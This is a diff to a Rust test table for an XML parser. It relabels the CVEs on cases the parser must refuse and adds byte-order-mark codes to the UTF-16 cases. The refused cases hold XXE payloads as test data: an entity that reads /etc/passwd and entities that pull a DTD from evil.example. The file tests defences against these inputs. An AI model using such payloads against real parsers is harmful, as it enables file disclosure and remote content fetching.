@@ -48,13 +48,13 @@ fn declarations() -> Vec<Case> {
         refused(
             "entity-external",
             "an external entity that reads a file of the machine",
-            "CVE-2018-14485 and kin: XXE",
+            "CVE-2013-6440, CVE-2026-28809: XXE",
             "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
         ),
         refused(
             "entity-parameter",
             "a parameter entity that fetches a DTD",
-            "CVE-2018-14485 and kin: XXE",
+            "CVE-2013-6440, CVE-2026-28809: XXE",
             "<!DOCTYPE r [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>",
         ),
         refused(
@@ -66,7 +66,7 @@ fn declarations() -> Vec<Case> {
         refused(
             "doctype-external",
             "a DOCTYPE with an external DTD",
-            "CVE-2018-14485 and kin: XXE",
+            "CVE-2013-6440, CVE-2026-28809: XXE",
             "<!DOCTYPE r SYSTEM \"https://evil.example/x.dtd\">",
         ),
         text("entity-undeclared", "an entity that nothing declares", XML, "xml-malformed", |xml| {
@@ -157,9 +157,12 @@ fn encodings() -> Vec<Case> {
     let no_text = |id: &str, what: &str, bytes: Vec<u8>| {
         strict(id, what, bytes).expecting("unreadable", "encoding-unsupported")
     };
+    const BOM: &[&str] = &["utf16-text", "byte-order-mark"];
     vec![
-        strict("utf-16-le", "UTF-16, little-endian, with a byte-order mark", utf16(false)).read_on(),
-        strict("utf-16-be", "UTF-16, big-endian, with a byte-order mark", utf16(true)).read_on(),
+        strict("utf-16-le", "UTF-16, little-endian, with a byte-order mark", utf16(false))
+            .read_on()
+            .codes(BOM),
+        strict("utf-16-be", "UTF-16, big-endian, with a byte-order mark", utf16(true)).read_on().codes(BOM),
         no_text("invalid-utf-8", "a byte that UTF-8 never has", invalid),
         no_text("overlong-utf-8", "an over-long form of <", overlong),
         no_text("surrogate-utf-8", "a surrogate in UTF-8", surrogate),
